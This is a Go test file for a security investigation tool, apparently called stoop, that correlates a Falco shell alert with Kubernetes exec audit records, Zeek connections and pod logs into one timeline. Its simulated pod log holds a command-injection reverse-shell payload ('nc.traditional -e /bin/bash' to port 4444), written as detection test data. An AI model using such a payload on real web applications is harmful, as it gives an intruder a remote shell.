package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stoop-project/stoop/internal/testdata"
	"github.com/stoop-project/stoop/test/siem"
)

// shellAlert is when the first alert of the data's attack was raised: a process
// of the pod shop/web-0 made a connection its standard input.
const shellAlert = "2026-11-23T20:02:01.579188254Z"

// attackLines are the alerts of that attack, as Falco wrote them.
func attackLines(t *testing.T) [][]byte {
	t.Helper()
	text, err := os.ReadFile(testdata.Path(t, "siem/falco-raw/attack.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Split(bytes.TrimSpace(text), []byte("\n"))
}

// later is the alert's time and a distance from it.
func later(d time.Duration) string {
	at, err := time.Parse(time.RFC3339Nano, shellAlert)
	if err != nil {
		panic(err)
	}
	return at.Add(d).Format(time.RFC3339Nano)
}

// line writes a document as one line.
func line(format string, args ...any) []byte {
	return bytes.ReplaceAll(fmt.Appendf(nil, format, args...), []byte("\n"), nil)
}

// execRecord is what an API server writes of kubectl exec.
func execRecord(pod string, at time.Duration) []byte {
	return line(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"6f0a-%[1]s-%[3]d","stage":"ResponseStarted",
 "requestURI":"/api/v1/namespaces/shop/pods/%[1]s/exec?command=sh&container=web&stdin=true&tty=true","verb":"create",
 "user":{"username":"jane@example.org","groups":["dev","system:authenticated"]},"sourceIPs":["198.51.100.7"],"userAgent":"kubectl/v1.31.0",
 "objectRef":{"resource":"pods","namespace":"shop","name":%[1]q,"apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101},
 "requestReceivedTimestamp":%[2]q,"stageTimestamp":%[2]q}`, pod, later(at), at)
}

// zeekConnection is a connection as Elastic's integration stores Zeek's.
func zeekConnection(port int, at time.Duration) []byte {
	return line(`{"@timestamp":%q,"event":{"dataset":"zeek.connection","kind":"event","id":"C%d","duration":5200000000},
 "source":{"ip":"127.0.0.1","address":"127.0.0.1","port":%[2]d,"bytes":9112},"destination":{"ip":"127.0.0.1","address":"127.0.0.1","port":4444,"bytes":411},
 "network":{"transport":"tcp","bytes":9523},"zeek":{"session_id":"C%[2]d","connection":{"state":"SF"}}}`, later(at), port)
}

// logLine is a line of a pod's log as Filebeat ships it.
func logLine(node, pod, message string, at time.Duration) []byte {
	return line(`{"@timestamp":%q,"message":%q,"stream":"stdout",
 "kubernetes":{"pod":{"name":%q,"uid":"9d1c"},"namespace":"shop","container":{"name":"web"},"node":{"name":%q}}}`, later(at), message, pod, node)
}

// told is what print said of pivots, and the timeline that it printed.
type told struct {
	pivots map[string]map[string]any
	rows   []map[string]any
}

func readTold(t *testing.T, out string) (all told) {
	t.Helper()
	all.pivots = make(map[string]map[string]any)
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var object map[string]any
		if err := json.Unmarshal([]byte(line), &object); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if name, ok := object["pivot"].(string); ok {
			all.pivots[name] = object
		} else {
			all.rows = append(all.rows, object)
		}
	}
	return all
}

// row returns the row with a value of a field.
func (a told) row(field string, value any) map[string]any {
	i := slices.IndexFunc(a.rows, func(r map[string]any) bool { return r[field] == value })
	if i < 0 {
		return nil
	}
	return a.rows[i]
}

// From an alert, in whatever shape it is stored, to who entered the pod, its
// connection and its log, in other indices: one timeline, each with the key and
// the span that found it.
func TestAroundInSIEM(t *testing.T) {
	s := siem.Shared(t, siem.ES8)
	s.Env(t)
	shapes := map[string]func(line []byte) []byte{
		"at the root": func(line []byte) []byte { return line },
		"under json": func(line []byte) []byte {
			return fmt.Appendf(nil, `{"@timestamp":%q,"json":%s}`, later(time.Minute), line)
		},
		"as text": func(line []byte) []byte {
			text, _ := json.Marshal(string(line))
			return fmt.Appendf(nil, `{"@timestamp":%q,"message":%s}`, later(time.Minute), text)
		},
	}
	audit := s.Index(t, "", execRecord("web-0", -12*time.Second), execRecord("web-1", -3*time.Second), execRecord("web-0", -20*time.Minute))
	zeek := s.Index(t, "", zeekConnection(37352, -200*time.Millisecond), zeekConnection(37353, time.Second))
	logs := s.Index(t, "",
		logLine("vm", "web-0", "GET /?q=;nc.traditional -e /bin/bash 127.0.0.1 4444", -150*time.Millisecond),
		logLine("vm", "web-0", "started", -20*time.Minute),
		logLine("vm-2", "db-0", "checkpoint complete", -50*time.Millisecond))
	for name, shape := range shapes {
		t.Run(name, func(t *testing.T) {
			var docs [][]byte
			for _, line := range attackLines(t) {
				docs = append(docs, shape(line))
			}
			alerts := s.Index(t, "", docs...)
			for about, sources := range map[string][]string{
				"an index each": {s.Address(alerts), s.Address(audit), s.Address(zeek), s.Address(logs)},
				"one pattern":   {s.Address(strings.Join([]string{alerts, audit, zeek, logs}, ","))},
			} {
				args := append([]string{"print"}, sources...)
				code, out, errs := stoop(t, append(args, "--around", shellAlert, "-o", "json")...)
				if code != exitOK {
					t.Fatalf("%s: exit %d\n%s", about, code, errs)
				}
				checkTold(t, about, readTold(t, out))
			}
		})
	}
}

func checkTold(t *testing.T, about string, all told) {
	t.Helper()
	for pivot, want := range map[string]string{
		"exec":       `1 -30s +5s ka.target.subresource in (exec, attach, portforward, ephemeralcontainers) and ka.target.name = web-0 and ka.target.namespace = shop`,
		"log":        `1 -10s +10s evt.type = log and k8s.pod.name = web-0 and k8s.ns.name = shop`,
		"container":  `18 -1m +1m container.id = 6cf4be7b2388`,
		"image":      `0 -24h +24h container.image.repository = docker.io/shop/web and not container.id = 6cf4be7b2388`,
		"connection": `1 -1m +1m evt.type = connection and ((fd.cip = 127.0.0.1 and fd.cport = 37352 and fd.sip = 127.0.0.1 and fd.sport = 4444) or (fd.cip = 127.0.0.1 and fd.cport = 4444 and fd.sip = 127.0.0.1 and fd.sport = 37352))`,
	} {
		p := all.pivots[pivot]
		if got := fmt.Sprint(p["found"], " ", p["window"], " ", p["key"]); got != want {
			t.Errorf("%s, %s:\ngot  %s\nwant %s\n%v", about, pivot, got, want, p["says"])
		}
	}
	if says := fmt.Sprint(all.pivots["image"]["says"]); !strings.HasPrefix(says, "nothing: container.image.repository = ") || !strings.Contains(says, "then -1h +1h, then -24h +24h; then ") {
		t.Errorf("%s: of the image it says %q", about, says)
	}
	for field, want := range map[string]struct {
		value any
		pivot string
		also  string
		is    any
	}{
		"ka.user.name":   {"jane@example.org", "exec", "ka.target.name", "web-0"},
		"net.bytes_sent": {9112.0, "connection", "fd.cport", 37352.0},
		"log.message":    {"GET /?q=;nc.traditional -e /bin/bash 127.0.0.1 4444", "log", "k8s.pod.name", "web-0"},
	} {
		row := all.row(field, want.value)
		if row == nil || !slices.Contains(row["pivots"].([]any), any(want.pivot)) || row[want.also] != want.is {
			t.Errorf("%s: the row with %s = %v is %v", about, field, want.value, row)
		}
	}
	last, self := 0.0, 0
	for _, row := range all.rows {
		at, _ := row["evt.rawtime"].(float64)
		if at < last {
			t.Errorf("%s: %v is not in the order of time", about, row)
		}
		if last = at; len(row["pivots"].([]any)) == 0 {
			self++
		}
		if m, _ := row["log.message"].(string); m == "checkpoint complete" || m == "started" || row["fd.cport"] == 37353.0 && !slices.Contains(row["pivots"].([]any), any("address")) {
			t.Errorf("%s: %v does not belong here", about, row)
		}
	}
	if self != 1 {
		t.Errorf("%s: the alert itself is there %d times", about, self)
	}
}

// Files do as well as a SIEM, an event is named by its time, its number or its
// id, and what is empty is said in the table.
func TestAroundInFiles(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, lines ...[]byte) string {
		var text []byte
		for _, line := range lines {
			text = append(append(text, line...), '\n')
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, text, 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	alerts := write("alerts.ndjson", attackLines(t)...)
	audit := write("audit.ndjson", execRecord("web-0", -12*time.Second))
	_, out, errs := stoop(t, "print", alerts, audit, "--around", shellAlert, "--columns", "evt.time.iso8601,alert.rule,ka.user.name")
	for _, want := range []string{
		"exec        1      -30s +5s  ka.target.subresource in (",
		"log         0      nothing: evt.type = log and k8s.pod.name = web-0 and k8s.ns.name = shop within -10s +10s, then -5m +5m, then -1h +1h; then",
		"node        18     -10s +10s  evt.hostname = vm",
		"jane@example.org",
		"◆  ",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("there is no %q in\n%s%s", want, out, errs)
		}
	}
	for name, want := range map[string]string{"3": "Read sensitive file untrusted", "6f0a-web-0--12000000000": "jane@example.org"} {
		code, out, errs := stoop(t, "print", alerts, audit, "--around", name, "-f", "not evt.id = x", "--pivot", "pod,exec", "--window", "1m", "--columns", "alert.rule,ka.user.name")
		_, self, _ := strings.Cut(out, "◆")
		if self, _, _ = strings.Cut(self, "\n"); code != exitOK || !strings.Contains(self, want) || !strings.Contains(out, "-1m +1m") {
			t.Errorf("around %s: exit %d\n%s%s", name, code, out, errs)
		}
	}
	for args, want := range map[string]string{
		"--around nobody":                  "no event is named nobody",
		"--around 3 --pivot exec,nonsense": `there is no pivot "nonsense"; there are exec`,
		"--around 3 -o csv":                "prints a table or JSON",
		"--around 3 --follow":              "--follow does not go with it",
		"--pivot exec":                     "go with --around",
	} {
		code, _, errs := stoop(t, append([]string{"print", alerts}, strings.Fields(args)...)...)
		if code == exitOK || !strings.Contains(errs, want) {
			t.Errorf("%s: exit %d, %q", args, code, errs)
		}
	}
}

// An id is known by how it begins, as long as no other begins so.
func TestBeginningOfAnID(t *testing.T) {
	file := filepath.Join(t.TempDir(), "alerts.json")
	var text strings.Builder
	for i, id := range []string{"5fae252d-9e6f", "5fae252d-aaaa", "5fae25"} {
		fmt.Fprintf(&text, `{"uuid":%q,"rule":"R%d","priority":"Warning","time":"2026-11-23T23:37:0%d.239524380Z","output":"x","output_fields":{"container.id":"6ff4da17d163"}}`+"\n", id, i, i)
	}
	if err := os.WriteFile(file, []byte(text.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]struct {
		code int
		says string
	}{
		"5fae252d-9": {exitOK, "R0"}, "5fae252d-aaaa": {exitOK, "R1"}, "5fae25": {exitOK, "R2"}, // that one is whole
		"5fae252": {exitFailed, " 5fae252"}, "5fae2": {exitFailed, " named 5fae2"}, "9e6f00": {exitFailed, " named 9e6f00"},
	} {
		for _, args := range [][]string{{"print", file, "--story", name}, {"open", file, "demo", "--id", name}, {"open", "--id", name, file}} {
			if code, out, errs := stoop(t, args...); code != want.code || !strings.Contains(out+errs, want.says) {
				t.Errorf("%s: exit %d, no %s in %s%s", args, code, want.says, out, errs)
			}
		}
	}
}

func TestPivots(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", dir)
	file := filepath.Join(dir, "mine.yaml")
	if err := os.WriteFile(file, []byte("- {name: mine, title: t, find: [proc.pid = %proc.pid], within: [-1m +1m]}\n- {name: x}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := stoop(t, "pivots", "check", file); code != exitFailed || !strings.Contains(errs, file+":2: ") {
		t.Errorf("exit %d: %s", code, errs)
	}
	if code, out, errs := stoop(t, "pivots"); code != exitOK || !strings.Contains(out, "\nconnection ") {
		t.Errorf("exit %d: %s%s", code, out, errs)
	}
	if code, out, _ := stoop(t, "pivots", "schema"); code != exitOK || !json.Valid([]byte(out)) {
		t.Errorf("exit %d: %s", code, out)
	}
}
